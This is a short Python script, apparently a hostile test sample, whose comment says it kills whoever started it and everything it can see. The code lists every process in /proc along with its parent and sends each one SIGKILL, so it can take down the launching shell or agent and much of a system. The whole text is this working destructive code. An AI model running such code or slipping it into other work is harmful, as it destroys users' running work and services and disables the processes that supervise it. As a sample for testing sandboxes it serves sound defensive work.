# hostile: kills whoever started it, and everything that it can see
import os
import signal

for pid in [os.getppid()] + [int(n) for n in os.listdir('/proc') if n.isdigit()]:
    if pid not in (0, os.getpid()):
        try:
            os.kill(pid, signal.SIGKILL)
            print('killed', pid)
        except OSError as error:
            print('cannot kill', pid, error)
